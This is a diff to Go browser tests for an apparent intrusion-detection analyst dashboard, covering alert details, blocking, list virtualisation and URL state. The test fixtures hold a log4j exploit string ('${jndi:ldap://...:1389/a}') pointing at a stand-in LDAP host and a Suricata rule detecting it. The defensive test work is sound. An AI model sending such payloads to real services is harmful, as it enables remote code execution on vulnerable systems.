@@ -208,6 +208,9 @@ func TestAnalystSeesBlocksAndUndoes(t *testing.T) {
 	b.wait(t, "history", `document.querySelectorAll("#alerts .row").length > 10`)
 	b.wait(t, "sensors", `document.querySelectorAll("[data-sensor]").length === 3`)
 
+	w.putRules(t, `alert http any any -> any any (msg:"other"; content:"x"; sid:20346470; rev:1;)
+alert http any any -> any any (msg:"ET EXPLOIT Apache log4j RCE Attempt"; content:"jndi"; sid:2034647; rev:3;)
+`)
 	log4j := attacks[5]
 	attacker := netip.MustParseAddr("203.0.113.77")
 	before := time.Now()
@@ -235,6 +238,7 @@ func TestAnalystSeesBlocksAndUndoes(t *testing.T) {
 	b.key(t, kb.Enter)
 	b.wait(t, "detail", `document.querySelector(".detail h2")?.textContent.includes("log4j")`)
 	b.wait(t, "payload", `document.querySelector("[data-testid=payload]")?.textContent.includes("\${jndi:ldap://198.51.100.9:1389/a}")`)
+	b.wait(t, "rule", `[...document.querySelectorAll(".detail pre")].some((p) => p.textContent.startsWith("alert http any any") && p.textContent.includes("sid:2034647;"))`)
 	b.shoot(t, "detail-light")
 
 	// Block its source, after seeing what that would hit.
@@ -397,6 +401,19 @@ func TestURLHoldsTheState(t *testing.T) {
 	b.wait(t, "sensors", `location.search.includes("view=sensors") && document.querySelector(".sensors")`)
 	b.do(t, "back", chromedp.NavigateBack())
 	b.wait(t, "alerts again", `document.querySelector("#alerts") && !location.search.includes("view=")`)
+	b.do(t, "clear", chromedp.Navigate(w.url))
+	b.wait(t, "all", `document.querySelectorAll("#alerts .row").length > 10 && document.querySelector(".plot canvas")`)
+	if n := b.eval(t, `document.querySelectorAll("#alerts .row").length`); len(n) > 2 {
+		t.Errorf("%s rows are in the page: the list is not virtual", n)
+	}
+	b.eval(t, `document.querySelector("#alerts").scrollTo(0, 1e6)`)
+	b.wait(t, "older ones", `+document.querySelector("#alerts").getAttribute("aria-rowcount") === 300`)
+	b.do(t, "brush", chromedp.DragAndDropXY(300, 230, 700, 230, 8))
+	b.wait(t, "looking back", `document.querySelector(".state.past") && /since=.*until=/.test(location.search)`)
+	b.wait(t, "fewer", `(n => n > 10 && n < 300)(+document.querySelector("#alerts").getAttribute("aria-rowcount"))`)
+	b.shoot(t, "brushed")
+	b.do(t, "back to live", chromedp.Click(`.filter .button`))
+	b.wait(t, "live", `document.querySelector(".state.live") && !location.search`)
 	b.do(t, "nonsense", chromedp.Navigate(w.url+"?q=colour%3Ared"))
 	b.wait(t, "explained", `document.querySelector(".problem")?.textContent.includes("There is no filter “colour:”")`)
 	b.noErrors(t)
